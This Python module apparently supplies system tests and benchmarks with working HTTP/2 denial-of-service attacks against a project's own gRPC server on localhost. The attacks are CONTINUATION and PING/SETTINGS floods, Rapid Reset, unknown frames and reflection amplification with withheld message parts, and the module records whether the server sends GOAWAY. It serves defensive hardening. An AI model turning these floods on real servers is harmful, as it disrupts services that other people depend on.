"""HTTP/2 attacks on the gRPC port, from raw frames over a plain socket, for
tests/system/test_h2_attacks.py and benchmarks/h2_attacks.py: the floods of issue 46 (empty
CONTINUATIONs after a HEADERS without END_HEADERS, frames of an unknown type, Rapid Reset of
calls that carry their body, PING and SETTINGS whose replies are never read, empty DATA),
issue 56's attacker that holds parts of messages and floods reflection without reading
(tests/system/test_grpc_bounds.py), and single malformed sequences that RFC 9113 answers with
a connection error.

An attacker connects, floods until the server closes the connection (or its time is up), and
notes how many frames it sent and the GOAWAY it got; with `reconnect`, it connects again until
the time is up."""

from __future__ import annotations

import multiprocessing
import socket
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE = range(9)
CONTINUATION = 9
END_STREAM, END_HEADERS, PADDED = 0x1, 0x4, 0x8
MODEL_INFER = "/inference.GRPCInferenceService/ModelInfer"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, kind, flags, sid) + payload


def call_block(path: str = MODEL_INFER) -> bytes:
    """A gRPC call's request headers as a stateless block (never-indexed literals: the same
    bytes may open any number of streams)."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
              ("content-type", "application/grpc"), ("te", "trailers")]  # fmt: skip
    never = [hpack.NeverIndexedHeaderTuple(n, v) for n, v in fields]
    return bytes(hpack.Encoder().encode(never, huffman=False))


def grpc_message(body: bytes) -> bytes:
    return struct.pack(">BI", 0, len(body)) + body


def data_frames(sid: int, payload: bytes, end: bool = False) -> bytes:
    """`payload` as DATA frames of at most 16 KiB (END_STREAM on the last with `end`)."""
    size = 16384
    chunks = [payload[i : i + size] for i in range(0, len(payload), size)] or [b""]
    last = len(chunks) - 1
    return b"".join(
        frame(DATA, END_STREAM if end and i == last else 0, sid, chunk)
        for i, chunk in enumerate(chunks)
    )


def reflection_requests(count: int) -> bytes:
    """`count` framed ServerReflectionRequests, each for a file's descriptor (an 8 KB answer
    from a 37-byte request)."""
    from grpc_reflection.v1alpha import reflection_pb2

    one = reflection_pb2.ServerReflectionRequest(
        file_containing_symbol="inference.GRPCInferenceService"
    ).SerializeToString()
    return grpc_message(one) * count


def parts_then_reflection() -> tuple[bytes, Flood, bool]:
    """Issue 56's attacker, who reads nothing: 112 reflection streams carrying the first 60 KB
    of a 2 MB message each (a stream's starting window is 64 KiB; 6.7 MB of a connection's
    8 MiB window), then reflection streams each flooded with 3 frames of 440 requests for a
    file's descriptor."""
    reflect = call_block(REFLECTION)
    part = struct.pack(">BI", 0, 2_000_000) + bytes(60_000)
    opening = b"".join(
        frame(HEADERS, END_HEADERS, s, reflect) + data_frames(s, part) for s in range(1, 225, 2)
    )
    requests = reflection_requests(440)  # one 16 KiB frame of them

    def streams(sid: int) -> tuple[bytes, int]:
        s = sid + 224  # above the opening's
        return frame(HEADERS, END_HEADERS, s, reflect) + data_frames(s, requests * 3), 4

    return opening, streams, False


# -- the floods: each a function of the next stream id, giving (bytes, frames) to send ---------
Flood = Callable[[int], tuple[bytes, int]]


def flood_of(kind: str, body: bytes) -> tuple[bytes, Flood, bool]:
    """(what opens the attack, the flood, whether the attacker reads what the server sends)."""
    if kind == "parts-reflection":
        return parts_then_reflection()
    block = call_block()
    message = grpc_message(body)
    if kind == "continuation":
        burst = frame(CONTINUATION, 0, 1) * 256
        return frame(HEADERS, 0, 1, block), lambda sid: (burst, 256), True
    if kind == "unknown":
        burst = frame(0x42, 0, 0) * 256
        return b"", lambda sid: (burst, 256), True
    if kind == "empty-data":
        burst = frame(DATA, 0, 1) * 256
        return frame(HEADERS, END_HEADERS, 1, block), lambda sid: (burst, 256), True
    if kind == "ping":
        burst = frame(PING, 0, 0, bytes(8)) * 256
        return b"", lambda sid: (burst, 256), False
    if kind == "settings":
        burst = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 256
        return b"", lambda sid: (burst, 256), False
    if kind == "rapid-reset":
        cancel = struct.pack(">I", 8)

        def streams(sid: int) -> tuple[bytes, int]:
            out = b"".join(
                frame(HEADERS, END_HEADERS, s, block)
                + frame(DATA, END_STREAM, s, message)
                + frame(RST_STREAM, 0, s, cancel)
                for s in range(sid, sid + 64, 2)
            )
            return out, 96

        return b"", streams, True
    raise ValueError(f"unknown attack {kind!r}")


ATTACKS = ("continuation", "unknown", "rapid-reset", "ping", "settings", "empty-data")


@dataclass
class Connection:
    frames: int = 0  # sent before the server closed it (or the time was up)
    seconds: float = 0.0
    closed: bool = False
    goaway: int | None = None  # the error code of the server's GOAWAY, when one was read
    debug: bytes = b""


@dataclass
class Attack:
    """One attack from one connection, for at most `duration` s; `reconnect`: on a new
    connection each time the server closes one, until `duration` is over."""

    port: int
    kind: str
    body: bytes = b""
    duration: float = 2.0
    reconnect: bool = False
    connections: list[Connection] = field(default_factory=list)

    def run(self) -> Attack:
        until = time.monotonic() + self.duration
        while time.monotonic() < until:
            self.connections.append(self.one(until))
            if not self.reconnect:
                break
        return self

    def one(self, until: float) -> Connection:
        opening, flood, reads = flood_of(self.kind, self.body)
        got = Connection()
        start = time.monotonic()
        sock = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        reader = Reader(sock, got) if reads else None
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + opening)
            sid = 1
            while time.monotonic() < until and not got.closed:
                data, n = flood(sid)
                sid += 64
                sock.sendall(data)
                got.frames += n
        except TimeoutError:
            pass  # the server stopped reading: whether it then closes, the Reader sees
        except OSError:
            got.closed = True
        got.seconds = time.monotonic() - start
        if reader is None:  # what the server said before it closed (a write timeout, at most)
            Reader(sock, got).join(2.0 if got.closed else 10.0)
        else:
            reader.join(2.0 if got.closed else 0.2)
        sock.close()
        return got

    def closed_all(self) -> bool:
        return all(c.closed for c in self.connections)

    def elsewhere(self) -> Attack:
        """run() in a process of its own: clients measured beside it in this one share no
        interpreter lock with the attacker."""
        with multiprocessing.get_context("spawn").Pool(1) as pool:
            done: Attack = pool.apply(Attack.run, (self,))
        return done


class Reader(threading.Thread):
    """Reads the server's frames until it closes: notes the GOAWAY's code and its close."""

    def __init__(self, sock: socket.socket, got: Connection) -> None:
        super().__init__(daemon=True)
        self.sock, self.got = sock, got
        self.start()

    def run(self) -> None:
        buf = bytearray()
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3])
                    if len(buf) < 9 + n:
                        break
                    if buf[3] == GOAWAY:
                        self.got.goaway = int.from_bytes(buf[13:17])
                        self.got.debug = bytes(buf[17 : 9 + n])
                    del buf[: 9 + n]
        except OSError:
            pass
        self.got.closed = True


def connection_error(port: int, data: bytes, preface: bool = True) -> int | None:
    """Send `data` (after the preface and SETTINGS) on a new connection: the code of the GOAWAY
    the server answers, None when it closes without one or stays open 5 s."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    got = Connection()
    reader = Reader(sock, got)
    try:
        sock.sendall((PREFACE + frame(SETTINGS, 0, 0) if preface else b"") + data)
    except OSError:
        pass
    reader.join(5.0)
    sock.close()
    return got.goaway


def model_infer_body(model: str, text: str) -> bytes:
    """One ModelInfer request for one text, as tritonclient encodes it (raw BYTES contents).
    tritonclient's own compiled messages: a process that imports them never imports the
    server's (both define the `inference` package)."""
    from tritonclient.grpc import service_pb2

    data = text.encode()
    request = service_pb2.ModelInferRequest(model_name=model)
    request.inputs.add(name="text", datatype="BYTES", shape=[1])
    request.raw_input_contents.append(struct.pack("<I", len(data)) + data)
    return bytes(request.SerializeToString())
